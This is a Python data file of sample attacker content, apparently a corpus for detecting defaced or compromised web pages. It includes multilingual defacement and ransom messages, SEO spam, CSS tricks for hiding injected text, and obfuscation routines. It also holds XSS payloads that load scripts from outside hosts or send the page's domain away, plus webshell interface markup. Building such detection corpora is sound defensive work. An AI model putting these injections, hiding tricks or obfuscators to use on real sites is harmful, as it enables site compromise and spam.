"""What attackers leave, by kind and language. Pages that replaced a site whole, and pieces put into a genuine page."""

# ruff: noqa: E501 — markup as it is sent, one piece a line
from __future__ import annotations

import base64
from collections.abc import Callable, Iterator

# lang -> claims in the defacers' own manner; every one a title, a headline or the whole body
CLAIMS: dict[str, tuple[str, ...]] = {
    "vi": (
        "Website đã bị tấn công bởi Bóng Đêm Crew", "Đã chiếm quyền điều khiển máy chủ này - hội những kẻ mộng mơ",
        "Web của các anh bảo mật như trò đùa, chào thân ái và quyết thắng", "bi hack boi thang hang xom dep trai",
        "Trang này tạm thời thuộc về tụi mình, quản trị viên liên hệ facebook để lấy lại",
    ),
    "en": (
        "H4ck3d By Sn0wW0lf", "This domain got owned by NightHeron", "0wn3d by the quiet ones",
        "Your box has been rooted, ~ frostbyte was here ~", "Defaced :: Ravenous Kittens", "Pwn3d! by zer0mile",
        "Site seized by Red Lantern Collective - your files belong to us now", "You have been hacked, sysadmin. LOL",
        "Security breached by KurtBoy", "Struck by Lazy Mamba",
    ),
    "id": (
        "Telah Diretas Oleh Kucing Oren", "Dihek sama bocil gabut", "Situs ini kami ambil alih - Gerombolan Senja",
        "Hai bapak ibu admin, webnya bolong, tolong ditambal ya", "Stempel by Anak Kos Squad",
    ),
    "tr": (
        "Bu Site Kara Bozkurtlar Tarafından Hacklenmiştir", "Sisteme sızıldı - Gece Baskını Tim",
        "Sunucunuz ele geçirilmiştir, vatan sağ olsun", "HACKED - Yalnız Kurt buradaydı",
    ),
    "pt": (
        "Invadido por Coruja Noturna", "Este site foi hackeado pela turma do fundão", "Pichado por Zé do Terminal",
        "Sua segurança é uma piada, admin - ass: Fantasma", "Owned por Os Sem Sono",
    ),
    "es": (
        "Hackeado por Lobo Gris", "Este sitio ha sido vulnerado por el colectivo Quetzal", "Sitio intervenido por Ánima",
        "Tu servidor fue comprometido, saludos al administrador",
    ),
    "ar": (
        "تم اختراق الموقع من طرف صقر الليل", "اخترقت من قبل فريق الرمال", "هذا الموقع مخترق - رسالة الى المدير",
        "تم الاختراق بواسطة ظل الصحراء",
    ),
    "fa": (
        "این سایت توسط گرگ تنها هک شد", "هک شده توسط تیم کویر", "امنیت سایت شما صفر است", "نفوذ به سرور انجام شد",
    ),
    "zh": (
        "本站已被夜行者黑了", "黑客到此一游 请管理员尽快修复漏洞", "你的网站被入侵了，勿忘国耻", "已被孤狼小队攻破",
    ),
    "ru": (
        "Взломано командой Полярная Сова", "Этот сайт был взломан", "Сервер захвачен, привет админу",
        "Вас взломали, меняйте пароли", "Дефейс от Серого",
    ),
    "fr": ("Site piraté par Hibou Noir", "Votre site a été hacké par Les Insomniaques"),
    "de": ("Gehackt von Nachtfalter", "Diese Webseite wurde von uns übernommen"),
}  # fmt: skip

NOTES: dict[str, tuple[str, ...]] = {
    "vi": ("Gửi admin: lỗ hổng upload vẫn còn, vá đi rồi hãy ngủ. Dữ liệu không bị xóa.",
           "Cảm ơn anh em Bóng Đêm, chúc cả nhà ăn tết vui vẻ."),
    "en": ("No files were deleted, your index is saved as old.html. Contact me to fix the hole.",
           "Greetz: all friends who never sleep. We see everything."),
    "id": ("Maaf pak admin, cuma mampir. File aman kok, index lama ada di index.bak", "Salam dari kami yang tersakiti"),
    "tr": ("Ne mutlu Türküm diyene. Açığınızı kapatın.", "Selamlar dostlara"),
    "pt": ("Nada foi apagado, só mudamos a capa. Atualize seu sistema.", "Salve pra todos do underground"),
    "es": ("No borramos nada. Arregla tu seguridad.", "Saludos a todos los amigos"),
    "ar": ("رسالتنا واضحة: الحرية لفلسطين", "الى ادارة الموقع قم بتحديث النظام"),
    "fa": ("مدیر محترم باگ سایت خود را رفع کنید", "درود بر همه بچه ها"),
    "zh": ("管理员，你的密码太弱了，数据没有删除", "网络安全靠人民"),
    "ru": ("Админ, закрой дыру. База не тронута.", "Привет всем нашим"),
    "fr": ("Rien n'a été supprimé.", "Salut à tous"),
    "de": ("Es wurde nichts gelöscht.", "Grüße an alle"),
}  # fmt: skip

# Messages without any claim: politics, religion, ransom, jokes, feelings.
MESSAGES: tuple[tuple[str, str], ...] = (
    ("politics", "<title>#OpSilence</title><body bgcolor=#000 text=red><center><h1>We are Anonymous. We are Legion."
     "</h1><h3>We do not forgive. We do not forget. Expect us.</h3><p>Citizens, your government lies to you.</p>"),
    ("politics", "<title>Free Palestine</title><body style='background:black;color:#0f0'><center><img src=flag.jpg>"
     "<h1>FREE GAZA</h1><p>Stop killing children. To the Zionists: your websites are not safe from us.</p>"
     "<audio autoplay src=nasheed.mp3></audio>"),
    ("politics", "<title>Message to the government</title><body bgcolor=black><center><font color=white size=6>To those"
     " who rule: people are hungry and you steal. Kami tidak akan diam!</font><br>- suara rakyat - #ReformasiDikorupsi"),
    ("politics", "<title>Hoàng Sa Trường Sa</title><body bgcolor=black><center><h1><font color=red>Hoàng Sa, Trường Sa "
     "là của Việt Nam</font></h1><h3>Chinese hackers, get out of our sea</h3><bgsound src=quocca.mid></center>"),
    ("politics", "<title>勿忘国耻</title><body bgcolor=black><center><font color=red size=7>钓鱼岛是中国的</font><br>"
     "<marquee>中国黑客向你问好 网站管理员请注意</marquee></center>"),
    ("politics", "<title>Слава</title><body bgcolor=#000000><center><h1 style=color:red>Русские хакеры не спят</h1>"
     "<p>Остановите войну. Ваши данные у нас.</p></center>"),
    ("politics", "<html><title>Stop the war</title><body style='background-color:#000'><h1>Slava Ukraini!</h1>"
     "<p>This government website was taken down by the IT army. Russian soldiers, go home.</p></body></html>"),
    ("politics", "<title>آزادی</title><body bgcolor=black><center><h1>زن زندگی آزادی</h1><h2>مرگ بر دیکتاتور</h2>"
     "<p>ما نمی بخشیم ما فراموش نمی کنیم</p></center>"),
    ("religion", "<title>.:: La ilaha illallah ::.</title><body bgcolor=black><center><img src=//i.postimg.cc/a/b.jpg>"
     "<h2>There is no god but Allah and Muhammad is his messenger</h2><h3>Kashmir will be free. Muslim cyber unit"
     "</h3></center>"),
    ("ransom", "<title>README</title><pre>Your files are encrypted. To restore your website and database send 0.08 BTC "
     "to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and mail your domain to keyback@onion.example</pre>"),
    ("ransom", "<html><body><h1>ALL YOUR DATA HAS BEEN BACKED UP</h1>You must pay 0.01 bitcoin in 48 hours or your data"
     " will be publicly disclosed and deleted.</body></html>"),
    ("ransom", "<title>Locked</title><body bgcolor=black><font color=red><h1>Toàn bộ dữ liệu máy chủ đã bị mã hóa</h1>"
     "Chuyển 0,5 Bitcoin vào ví bên dưới trong 72 giờ để nhận khóa giải mã.</font></body>"),
    ("joke", "<title>halo</title><body bgcolor=black><center><img src=https://i.ibb.co/x/cat.gif><h2>numpang lewat ya "
     "pak, mau bilang aku sayang kamu Rina</h2><audio src=lagu.mp3 autoplay loop></audio></center>"),
    ("joke", "<title>:)</title><body bgcolor=#111><center><h1>Anh yêu em, làm người yêu anh nhé Thảo!</h1><p>mượn tạm "
     "trang của admin để tỏ tình, mong admin thông cảm</p><script>alert('Em đồng ý nha?')</script></center>"),
    ("joke", "<title>Touched</title><body style='background:#000'><center><pre>   _____\n  |x   x|\n  |  ~  |\n"
     "</pre><h3>1337 kids from the basement say hello</h3></center>"),
    ("joke", "<center><h1>test</h1><br>sorry admin, only testing your security :) no damage</center>"),
)  # fmt: skip

TINY: tuple[str, ...] = (
    "hacked", "Hacked by R4bbit", "<h1>pwned</h1>", "owned by nobody0x", "x0r was here", "<b>greetz to my cat</b>",
    "Bị hack rồi nhé admin", "diretas oleh si pitung", "<title>0wned</title>", "<center>hackeado por nadie</center>",
    "حکم هک شد", "تم الاختراق", "黑客到此一游", "взломано", "<marquee>bu site hacklendi</marquee>", "h a c k e d",
    "<script>alert('Hacked by kid')</script>", "./Bocil was here", "defaced!", "{ \"msg\": \"hacked by json kid\" }",
    "Hacked By Kh0i <br> ahihi do ngok", "admin ơi web lỗi kìa, hacked :v",
)  # fmt: skip

# Pieces that speak of gambling, medicine, goods: (kind, language, title, words, link texts)
SPAM: tuple[tuple[str, str, str, str, tuple[str, ...]], ...] = (
    ("gambling", "vi", "Link vào KUBET mới nhất - Nhà cái uy tín số 1 châu Á",
     "Kubet là nhà cái cá cược trực tuyến hàng đầu với tài xỉu, xóc đĩa, nổ hũ, bắn cá đổi thưởng. Đăng ký nhận ngay "
     "88K, nạp rút 1 phút. Soi kèo bóng đá, lô đề siêu cao 1 ăn 99.", ("nhà cái uy tín", "tài xỉu online", "nổ hũ")),
    ("gambling", "vi", "Trực tiếp đá gà Thomo hôm nay",
     "Xem đá gà trực tiếp thomo C1 không giật lag, cá cược đá gà cựa sắt, casino campuchia, nhà cái SV388 khuyến mãi "
     "nạp lần đầu 100%.", ("đá gà thomo", "sv388")),
    ("gambling", "vi", "Soi cầu XSMB - bạch thủ lô hôm nay chuẩn 99%",
     "Soi cầu bạch thủ lô, song thủ, lô kép, dàn đề 36 số bất bại nuôi khung 3 ngày; chốt số miền bắc cùng cao thủ, "
     "đánh lô online tại nhà cái.", ("soi cầu 247", "lô đề online", "rồng bạch kim")),
    ("gambling", "id", "SLOT GACOR HARI INI: Daftar Situs Slot Gampang Maxwin",
     "Situs slot gacor server thailand dengan RTP live tertinggi, deposit dana tanpa potongan, scatter hitam mahjong "
     "ways dan gates of olympus. Bonus new member 100% di awal.", ("slot gacor", "togel 4d", "link slot dana")),
    ("gambling", "id", "Bandar Togel Terpercaya Toto Macau 4D",
     "Bandar togel resmi pasaran Sydney Hongkong Singapore, prediksi HK malam ini, diskon terbesar, minimal deposit "
     "10rb.", ("bandar togel", "prediksi sgp")),
    ("gambling", "tr", "Deneme Bonusu Veren Siteler 2026 - Güncel Giriş",
     "Deneme bonusu veren bahis siteleri, canlı casino, slot oyna, yatırım şartsız freebet. Bets10 güncel giriş "
     "adresi, kaçak iddaa.", ("deneme bonusu", "canlı bahis", "casino siteleri")),
    ("gambling", "pt", "Jogo do Tigrinho demo grátis - Plataforma pagando agora",
     "Fortune Tiger horário pagante, cassino online com bônus sem depósito, apostas esportivas e rodadas grátis. "
     "Cadastre-se e ganhe R$ 50.", ("fortune tiger", "cassino online", "apostas online")),
    ("gambling", "en", "Best Online Casino 2026 - 200 Free Spins No Deposit",
     "Play real money slots, live roulette and blackjack at the best crypto casino; claim your welcome bonus and free "
     "spins today.", ("online casino", "no deposit bonus", "sports betting")),
    ("gambling", "zh", "澳门新葡京官网-百家乐在线娱乐平台",
     "澳门新葡京娱乐城提供百家乐、老虎机、真人视讯、体育投注，注册送彩金88元，棋牌APP下载。", ("真人百家乐", "体育投注", "棋牌平台")),
    ("gambling", "zh", "开云体育app官方下载-PG电子试玩平台",
     "开云体育、乐鱼体育、星空体育官方入口，PG电子麻将胡了模拟器，捕鱼达人，六合彩开奖结果，注册即送38元。",
     ("PG电子", "六合彩开奖", "开云体育")),
    ("gambling", "ru", "Казино Вулкан - играть онлайн на деньги",
     "Игровые автоматы на реальные деньги, бездепозитный бонус за регистрацию, рабочее зеркало 1xbet, ставки на спорт, "
     "фриспины.", ("онлайн казино", "зеркало 1xbet", "игровые автоматы")),
    ("gambling", "th", "สล็อตเว็บตรง แตกง่าย ไม่ผ่านเอเย่นต์",
     "สล็อตเว็บตรง บาคาร่าออนไลน์ แทงบอล เครดิตฟรี 50 ฝากถอนไม่มีขั้นต่ำ คาสิโนสด หวยออนไลน์", ("สล็อต", "บาคาร่า", "แทงบอล")),
    ("gambling", "ko", "안전 토토사이트 추천 - 카지노 바카라",
     "먹튀검증 토토사이트, 온라인카지노, 바카라사이트, 슬롯 머신, 첫충 보너스 30%", ("토토사이트", "카지노사이트", "슬롯사이트")),
    ("gambling", "ar", "أفضل كازينو اون لاين عربي", "العب روليت وبلاك جاك وسلوتس بمال حقيقي، مراهنات رياضية، بونص ترحيبي 100%",
     ("كازينو اون لاين", "مراهنات")),
    ("gambling", "fa", "سایت شرط بندی انفجار معتبر", "بازی انفجار با ضریب بالا، کازینو آنلاین، شرط بندی فوتبال، پوکر آنلاین، بونوس ورود",
     ("بازی انفجار", "شرط بندی", "کازینو آنلاین")),
    ("pharma", "en", "Buy Viagra Online Without Prescription - Cheap Generic Sildenafil",
     "Order cialis 20mg, generic levitra, kamagra oral jelly with overnight delivery. No prescription needed, discount "
     "pharmacy online.", ("buy viagra", "cialis 20mg", "kamagra")),
    ("pharma", "es", "Comprar Viagra sin receta", "Cialis genérico precio, comprar sildenafil contrareembolso, farmacia "
     "online sin receta, kamagra barata.", ("viagra sin receta", "comprar cialis")),
    ("goods", "ja", "ルイヴィトン バッグ 激安通販 送料無料",
     "スーパーコピー N級品 ブランド財布 激安 正規品 送料無料 ロレックス 腕時計 楽天 即日発送 セール",
     ("ロレックス 激安", "グッチ 財布 コピー", "送料無料")),
    ("goods", "ja", "【新品】ダイソン 掃除機 最安値 アウトレット公式", "人気 商品 送料無料 翌日配達 中古 美品 メンズ レディース 価格 税込 在庫あり カートに入れる",
     ("アウトレット", "最安値 通販")),
    ("goods", "en", "Replica Rolex Watches - Cheap Louis Vuitton Handbags Outlet",
     "High quality replica watches, cheap jerseys from china, fake designer bags, ugg boots outlet with free shipping.",
     ("replica watches", "cheap jerseys", "louis vuitton outlet")),
    ("essay", "en", "Best Essay Writing Service - Write My Paper Cheap",
     "Buy essays online, dissertation help, write my essay for me 24/7, payday loans no credit check.",
     ("write my essay", "buy essay online", "payday loans")),
    ("adult", "en", "Free Porn Videos HD - xxx tube", "Watch free porn, xxx sex videos, milf, hentai, live sex cams and "
     "escorts near you.", ("free porn", "xxx videos", "escort girls")),
    ("adult", "vi", "Phim sex không che - gái gọi cao cấp", "Xem phim sex việt nam, sex hiếp dâm, gái gọi sinh viên, "
     "phim heo vlxx, jav không che mới nhất.", ("phim sex", "gái gọi", "vlxx")),
    ("loan", "vi", "Vay tiền nhanh online không thẩm định", "Vay tiền online lãi suất 0%, app vay tiền nhanh 24/7, bốc bát"
     " họ, nợ xấu vẫn vay được, giải ngân trong 5 phút.", ("vay tiền nhanh", "vay tiền online", "bốc bát họ")),
)  # fmt: skip

HIDING: tuple[str, ...] = (
    '<div style="display:none">{}</div>', '<div style="position:absolute;left:-7777px;top:0">{}</div>',
    '<div style="overflow:hidden;height:1px;width:1px">{}</div>', '<font style="font-size:0px">{}</font>',
    '<div style="text-indent:-3000em">{}</div>', '<marquee width="1" height="1" scrollamount="9000">{}</marquee>',
    '<div style="visibility:hidden;position:absolute">{}</div>', '<p style="opacity:0;position:fixed">{}</p>',
    '<style>.zx9k{{position:fixed;top:-900vh}}</style><div class="zx9k">{}</div>', "<noscript>{}</noscript>",
    '<div id="fx1">{}</div><script>document.getElementById("fx1").style.display="none";</script>',
    '<div style="color:#ffffff;font-size:1px;line-height:1px">{}</div>', '<div style="clip:rect(0,0,0,0);position:absolute">{}</div>',
    '<div style="z-index:-1;position:absolute;transform:scale(0)">{}</div>', '<ul hidden>{}</ul>',
    '<div style="height:0;overflow:hidden">{}</div>', '<td style="display: none !important">{}</td>',
)  # fmt: skip

XSS: tuple[str, ...] = (
    "<script src=//x9.wtf></script>", '"><script src=https://js.rip/ab12></script>', "<script src=//14.rs></script>",
    "</title><script src=https://xss.report/c/mole></script>", '<img src=x onerror="import(\'//j0.lc\')">',
    "<svg/onload=\"s=document.createElement('script');s.src='//kk.zz.am/p';document.body.appendChild(s)\">",
    "'><script src=http://185.66.41.9/k.js></script>", "<script>location='//win-qh.example/?r='+document.domain</script>",
    "<iframe src=javascript:eval(atob('YWxlcnQoMSk='))></iframe>", '"><img src=a onerror=alert(document.domain)>',
    "<script src='https://bmw.bet-hub.example/mm.js'></script>",
)  # fmt: skip

SCRIPT_HOSTS: tuple[str, ...] = (
    "//cdn-jquery-min.top/q.js", "https://45.61.137.9/s.js", "http://js.users.51.la.d8f2.cc/1.js",
    "https://kdj3-d.oss-cn-hk.example/tj.js", "//xn--80ak6aa.icu/a.js", "https://stat-count.pw/c.js?k=77",
    "https://raw.githubusercontent.com/abcxyz/p/main/x.js", "https://late-fog-91.user77.workers.dev/",
    "https://pastebin.com/raw/Qq9ZtX1a", "//a8.k7x.cyou/t", "https://hm.kk88win.vip/hm.js", "http://2130706433.example.tk/x.js",
)  # fmt: skip


def _codes(text: str, key: int = 0) -> str:
    return ",".join(str(ord(char) ^ key) for char in text)


def _percent(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode("latin-1", "replace"))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _packed(text: str) -> str:
    """As the well-known packer writes it."""
    words = text.replace("'", "").split(" ")
    coded = " ".join(str(number) for number in range(len(words)))
    return (
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}"
        f"('1.2(\"{coded}\")',10,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


# Scripts that write or do what `text` (markup) or `address` says.
WRITERS: dict[str, Callable[[str], str]] = {
    "unescape": lambda text: f"document.write(unescape('{_percent(text)}'))",
    "atob": lambda text: f'document.write(atob("{_b64(text)}"))',
    "decode-b64-var": lambda text: f"var _q='{_b64(text)}';document.body.innerHTML=decodeURIComponent(escape(atob(_q)));",
    "codes": lambda text: f"document.write(String.fromCharCode({_codes(text)}))",
    "xor": lambda text: f"var a=[{_codes(text, 23)}],o='';for(i=0;i<a.length;i++)o+=String.fromCharCode(a[i]^23);"
    "document.write(o)",
    "hex": lambda text: "document.write('" + "".join(f"\\x{ord(c) % 256:02x}" for c in text) + "')",
    "unicode": lambda text: "document.documentElement.innerHTML='" + "".join(f"\\u{ord(c):04x}" for c in text) + "'",
    "reversed": lambda text: f"document.write('{text[::-1]}'.split('').reverse().join(''))".replace("\n", " "),
    "eval-percent": lambda text: "eval(unescape('" + _percent(f"document.write('{text}')") + "'))",
    "two-layers": lambda text: f"eval(atob('{_b64(f'document.write(unescape(`{_percent(text)}`))')}'))",
    "pieces": lambda text: "document.write(" + "+".join(f"'{text[n : n + 3]}'" for n in range(0, len(text), 3)) + ")",
    "packer": _packed,
}  # fmt: skip

STYLED: dict[str, Callable[[str], str]] = {
    "plain": str,
    "leet": lambda text: text.translate(str.maketrans("aeioAEIO", "43104310")),
    "cyrillic": lambda text: text.translate(str.maketrans("aeopcxyABEKMHOPCTX", "аеорсхуАВЕКМНОРСТХ")),
    "bold-math": lambda text: "".join(
        chr(0x1D400 + ord(c) - 65) if "A" <= c <= "Z" else chr(0x1D41A + ord(c) - 97) if "a" <= c <= "z" else c for c in text
    ),
    "entities": lambda text: "".join(f"&#{ord(char)};" for char in text),
    "spaced": lambda text: "   ".join(" ".join(word) for word in text.split()),
    "zalgo": lambda text: "".join(f"{char}\u0336" for char in text),
    "zero-width": lambda text: "\u200b".join(text),
    "tags-between": lambda text: "".join(f"<font color=#{n % 10}f0>{char}</font>" for n, char in enumerate(text)),
    "circled": lambda text: "".join(chr(0x24D0 + ord(c) - 97) if "a" <= c <= "z" else c for c in text.lower()),
    "full-width": lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
}  # fmt: skip

LOOKS: tuple[str, ...] = (
    "<html><head><title>{title}</title></head><body bgcolor=black text=lime><center><img src='https://i.imgur.com/q1.jpg'>"
    "<h1>{claim}</h1><p>{note}</p></center></body></html>",
    "<!DOCTYPE html><html><head><title>{title}</title><style>body{{background:#0a0a0a url(bg.gif);color:#fff;font-family:"
    "'Share Tech Mono'}}</style></head><body oncontextmenu='return false'><div class=c><span class=glitch>{claim}</span>"
    "<br>{note}</div><audio autoplay loop src=https://files.example/m.mp3></audio></body></html>",
    "<html><title>{title}</title><body><div style='text-align:center;font-size:40px'>{claim}</div><div>{note}</div></body>",
    "<title>{title}</title><pre>\n {claim}\n\n {note}\n</pre>",
    "<html><head><title>.</title></head><body style=background-color:#000><p style=color:red>{claim}</p><iframe width=0 "
    "height=0 src=https://www.youtube.com/embed/abc?autoplay=1></iframe></body></html>",
)  # fmt: skip

BARE: tuple[str, ...] = (  # no words at all
    "<html><body bgcolor=black><center><img src=https://i.imgur.com/Zx81.png></center></body></html>",
    "<title> </title><body style='margin:0;background:#000'><img src=skull.gif width=100%><audio autoplay src=a.mp3></audio>",
    "<html><body style='background:#000 url(https://i.ibb.co/a/hack.jpg) center no-repeat'></body></html>",
    "<html><head><title>...</title></head><body bgcolor='#000000' oncontextmenu='return false'><video autoplay loop "
    "src=anon.mp4></video></body></html>",
    "<body bgcolor=black><embed src=https://www.youtube.com/v/abc&autoplay=1 width=1 height=1><img src=//i.postimg.cc/x.jpg>",
)  # fmt: skip


def shells() -> Iterator[str]:
    """What an uploaded back door shows."""
    yield ("<title>WSO 4.2</title><body bgcolor=#111 style=color:#0f0><table><tr><td>Uname:<br>User:<br>Php:<br>Hdd:<br>Cwd:"
           "</td><td>Linux web1 3.10.0-1160.el7.x86_64<br>48 (apache)<br>7.2 Safe mode: OFF<br>100 GB<br>/var/www/html</td>"
           "</tr></table>[ Sec. Info ] [ Files ] [ Console ] [ Sql ] [ Bruteforce ] [ Self remove ]")  # fmt: skip
    yield ("<html><title>Mini Shell</title>Current Path : /home/site/public_html<form method=POST enctype=multipart/form-data>"
           "Upload File : <input type=file name=file><input type=submit value=upload></form><table><tr><td>Name<td>Size<td>"
           "Permissions<td>Options<tr><td>index.php<td>1 KB<td>-rw-r--r--<td>chmod rename delete</table>")  # fmt: skip
    yield ("<b>Linux srv 5.4.0 #1 SMP x86_64</b><br><form method='POST' enctype='multipart/form-data'><input type=file name=a>"
           "<input type=submit name=_upl value=Upload></form>")  # fmt: skip
